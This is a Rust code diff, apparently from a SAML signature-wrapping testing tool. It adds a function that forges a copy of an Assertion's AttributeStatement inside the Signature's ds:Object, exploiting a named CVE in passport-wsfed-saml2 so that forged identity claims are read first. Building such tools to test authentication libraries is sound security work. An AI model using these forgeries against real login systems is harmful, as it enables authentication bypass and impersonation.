@@ -214,6 +214,34 @@ pub fn subject_in_signature(f: &Forge) -> Result<Forged, Skip> {
     )
 }
 
+/// As [`subject_in_signature`], a forged copy of the Assertion's AttributeStatement: a reader
+/// that finds attributes by a descendant path (`.//AttributeStatement/Attribute`) takes the
+/// copy's claims, which come first (passport-wsfed-saml2 < 4.6.4, CVE-2025-46573).
+pub fn attributes_in_signature(f: &Forge) -> Result<Forged, Skip> {
+    let doc = parse(f)?;
+    let p = Parts::of(&doc)?;
+    let sig = p.need_assertion_sig()?;
+    let statement = child(p.assertion, ASSERTION_NS, "AttributeStatement")
+        .ok_or_else(|| Skip::NotApplicable("the Assertion has no AttributeStatement".into()))?;
+    if sig.range().start > statement.range().start {
+        return Err(Skip::NotApplicable(
+            "the Signature follows the AttributeStatement, so a copy inside it would not be read first".into(),
+        ));
+    }
+    let (copy, swap) =
+        crate::mutate::copy_of(&doc, statement, true, crate::mutate::IdChange::Keep)?;
+    if swap.forged.is_empty() {
+        return Err(Skip::NotApplicable(
+            "the AttributeStatement carries no identity claim to forge".into(),
+        ));
+    }
+    let object = format!("<ds:Object xmlns:ds=\"{DSIG_NS}\">{copy}</ds:Object>");
+    forged(
+        p.splice_unsigned_response(vec![insert(before_end_tag(doc.src, sig), object)]),
+        swap,
+    )
+}
+
 /// The signed original moved into `samlp:StatusDetail`; the forged, unsigned one in its place.
 pub fn status_detail(f: &Forge) -> Result<Forged, Skip> {
     let doc = parse(f)?;
